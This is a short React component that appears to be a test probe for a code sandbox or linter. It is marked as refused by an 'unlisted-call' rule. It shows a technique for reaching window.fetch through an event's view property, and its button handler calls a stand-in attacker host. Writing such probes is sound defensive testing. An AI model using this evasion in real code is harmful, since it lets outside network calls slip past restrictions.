// probe: window through an event; refused by: unlisted-call
export default function Probe() {
  return <button onClick={(e) => e.view.fetch("https://attacker.test/x")}>Load</button>;
}
